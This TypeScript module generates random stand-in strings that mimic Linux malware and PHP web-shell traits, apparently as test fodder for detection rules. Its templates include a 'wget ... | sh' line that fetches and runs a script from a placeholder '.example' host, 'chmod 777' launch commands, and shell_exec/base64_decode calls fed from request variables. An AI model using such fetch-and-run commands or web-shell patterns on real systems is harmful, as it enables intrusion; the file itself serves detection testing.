import type { Random } from '../random.ts';

const syllables = ['ka', 'zor', 'mi', 'tren', 'bo', 'xel', 'du', 'fri', 'gan', 'lop', 'ner', 'qui', 'sha', 'vo', 'wex', 'yat'] as const;
const verbs = ['attack', 'flood', 'spread', 'inject', 'hide', 'kill', 'update', 'install', 'connect', 'report', 'encrypt', 'mine'] as const;
const places = ['/tmp/.', '/var/tmp/', '/dev/shm/', '/etc/cron.d/', '/usr/lib/', '/root/.ssh/'] as const;
const functions = ['base64_decode', 'gzinflate', 'str_rot13', 'shell_exec', 'passthru', 'proc_open', 'assert', 'create_function', 'system'] as const;
const variables = ['$_POST', '$_GET', '$_REQUEST', '$_COOKIE', '$_SERVER'] as const;

/** A word that no dictionary has, so that the text of a rule is found where it was planted and hardly elsewhere. */
export function coinedWord(random: Random, parts = random.between(2, 4)): string {
  return Array.from({ length: parts }, () => random.pick(syllables)).join('');
}

/** Text of the kind that gives a Linux program away: messages, paths, requests and user agents. */
export function programPhrase(random: Random): string {
  const word = coinedWord(random);
  return random.pick([
    () => `[${random.pick(verbs)}] ${word} %s:%d`,
    () => `${random.pick(places)}${word}`,
    () => `${random.pick(verbs)}_${word}_${random.pick(verbs)}`,
    () => `User-Agent: ${word}/${random.between(1, 9)}.${random.between(0, 20)}`,
    () => `GET /${word}.php?id=%s&key=%d HTTP/1.1`,
    () => `${word}d: cannot ${random.pick(verbs)} %s`,
    () => `main.${random.pick(verbs)}${word}`,
    () => `stratum+tcp://${word}.example:${random.between(1024, 9999)}`,
  ])();
}

/** Text of the kind that web shells and scripts have. Nothing here does anything. */
export function scriptPhrase(random: Random): string {
  const word = coinedWord(random);
  return random.pick([
    () => `${random.pick(functions)}(${random.pick(variables)}['${word}'])`,
    () => `@${random.pick(functions)}(${random.pick(functions)}($${word}))`,
    () => `$${word}=${random.pick(functions)}('${coinedWord(random)}')`,
    () => `<title>${word} shell ${random.between(1, 9)}.${random.between(0, 9)}</title>`,
    () => `name="${word}" value="${random.pick(verbs)}"`,
    () => `/*${word}:${random.between(100, 999)}*/`,
    () => `wget -q -O- http://${word}.example/${random.pick(verbs)}.sh | sh`,
    () => `chmod 777 ${random.pick(places)}${word} && ${random.pick(places)}${word} &`,
  ])();
}
